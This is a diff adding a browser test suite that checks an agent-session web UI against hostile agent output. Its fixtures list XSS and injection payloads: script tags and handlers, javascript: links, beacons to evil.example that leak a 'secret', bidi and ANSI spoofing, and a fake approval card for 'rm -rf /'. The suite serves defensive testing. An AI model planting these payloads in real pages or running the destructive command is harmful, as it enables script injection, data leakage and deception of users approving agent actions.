@@ -1,0 +1,128 @@
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { loggedIn, openBrowser } from './browser.ts'
+import { type Installation, installation, script, until } from './installation.ts'
+
+let it: Installation
+let browser: Browser
+beforeAll(async () => {
+  ;[it, browser] = await Promise.all([installation(), openBrowser()])
+})
+afterAll(async () => {
+  await browser.close()
+  await it[Symbol.asyncDispose]()
+})
+
+const pwn = 'globalThis.pwned=1'
+/** What an agent might write to be more than text. Each carries a word by which it is found again. */
+const attacks = [
+  `canary-script <script>${pwn}</script><script src="https://evil.example/x.js"></script>`,
+  `canary-handler <img src="https://evil.example/?beacon" onerror="${pwn}"><svg onload="${pwn}"><animate onbegin="${pwn}"/></svg>`,
+  `canary-frame <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/"></object>`,
+  `canary-style <style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><div style="position:fixed;inset:0">x</div>`,
+  `canary-link [click](javascript:${pwn}) [click](data:text/html,<script>${pwn}</script>) [panic](/api/v1/panic) [home](/#login=x)`,
+  'canary-image ![beacon](https://evil.example/?secret) ![local](/icon.svg) ![data](data:image/svg+xml;base64,PHN2Zy8+)',
+  'canary-ansi \u001b[31mred\u001b]0;title\u0007\u001b[2J',
+  'canary-bidi safe\u202Etxt.exe\u202C \u2066hidden\u2069 \u200bzero',
+  'canary-card\n\n> **The agent wants to run**\n>\n> `rm -rf /`\n>\n> <button>Allow once</button> [Allow once](javascript:1)',
+  `canary-deep ${'>'.repeat(3000)} end ${'['.repeat(3000)}`,
+]
+const input = { question: `${attacks[0]} ${attacks[6]} ${attacks[7]}?`, header: 'h', multiSelect: false }
+const hostile = script(
+  [
+    ...attacks.map((text) => ({ text: `${text}\n\n` })),
+    {
+      tool_use: 'Bash',
+      input: { command: 'head -c 10485760 /dev/zero | tr "\\0" x; echo; echo canary-long', description: attacks[0] },
+    },
+  ],
+  [{ tool_use: 'Write', input: { file_path: '/workspace/a.svg', content: attacks.join('\n') } }],
+  [
+    {
+      tool_use: 'AskUserQuestion',
+      input: { questions: [{ ...input, options: attacks.slice(0, 3).map((label) => ({ label, description: label })) }] },
+    },
+  ],
+  [{ text: 'canary-end' }],
+)
+
+test('what an agent writes runs nothing, loads nothing, leads nowhere it should not and imitates nothing', async () => {
+  const { page, go, look, wrong, context } = await loggedIn(browser, 'phone', it)
+  const { id } = await it.api.createSession({ body: { name: `${attacks[0]} ${attacks[7]}`, prompt: { text: hostile } } })
+  await until(async () => (await it.api.listRequests()).requests[0])
+
+  await go('/inbox')
+  await page.getByText('canary-script').first().waitFor()
+  // One card, with the exact words: every character that would hide or turn text is seen.
+  expect(await page.getByRole('article').count()).toBe(1)
+  const words = await page.getByRole('article').innerText()
+  expect(words).toContain('\\u{202e}txt.exe')
+  expect(words).toContain('␛[31mred')
+  await look('hostile-inbox')
+
+  await go(`/sessions/${id}`)
+  await page.getByRole('button', { name: 'Answer', exact: true }).waitFor()
+  const seen = new Set<string>()
+  const log = page.getByRole('region', { name: 'Conversation' })
+  const names = ['script', 'handler', 'frame', 'style', 'link', 'image', 'ansi', 'bidi', 'card', 'deep']
+  for (let up = 0; seen.size < names.length && up < 60; up++) {
+    const { text, foreign, links, buttons } = await log.evaluate((element) => ({
+      text: (element as HTMLElement).innerText,
+      foreign: element.querySelectorAll('img, iframe, object, embed, script, style, link, base, meta, [style*="fixed"]').length,
+      links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? ''),
+      buttons: [...element.querySelectorAll('button')].map((button) => button.innerText),
+    }))
+    for (const word of names) if (text.includes(`canary-${word}`)) seen.add(word)
+    // oxlint-disable-next-line no-control-regex
+    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
+    expect(foreign).toBe(0)
+    expect(links.filter((href) => !/^(https?:\/\/|mailto:)/.test(href))).toEqual([])
+    // Only the card that the daemon asks by has buttons, and this one has none of that name.
+    expect(buttons.filter((name) => /allow/i.test(name))).toEqual([])
+    await log.evaluate((element) => element.scrollBy(0, -500))
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve(null))))
+  }
+  expect([...seen].sort()).toEqual(['ansi', 'bidi', 'card', 'deep', 'frame', 'handler', 'image', 'link', 'script', 'style'])
+  await look('hostile-session')
+
+  await page.getByRole('button', { name: /^Ran head/ }).click()
+  await page.getByRole('region', { name: 'Output' }).first().waitFor()
+  await go('/')
+  await page.getByRole('searchbox').fill('canary')
+  await page.locator('mark').first().waitFor()
+  await look('hostile-search')
+
+  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined()
+  expect(wrong).toEqual([])
+  await context.close()
+}, 180_000)
+
+test('a script that got into the page after all could not be run', async () => {
+  const { page, context } = await loggedIn(browser, 'desktop', it)
+  const tried = await page.evaluate(() => {
+    const attempt = (act: () => unknown) => {
+      try {
+        act()
+        return 'done'
+      } catch (error) {
+        return (error as Error).name
+      }
+    }
+    const inline = document.createElement('script')
+    return [
+      attempt(() => (document.body.innerHTML = '<img src=x onerror="globalThis.pwned=1">')),
+      attempt(() => (inline.text = 'globalThis.pwned=1')),
+      attempt(() => inline.setAttribute('src', 'https://evil.example/x.js')),
+    ]
+  })
+  expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError'])
+  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined()
+  const framed = await page.evaluate(() =>
+    fetch('https://evil.example/', { mode: 'no-cors' }).then(
+      () => 'reached',
+      () => 'refused',
+    ),
+  )
+  expect(framed).toBe('refused')
+  await context.close()
+})
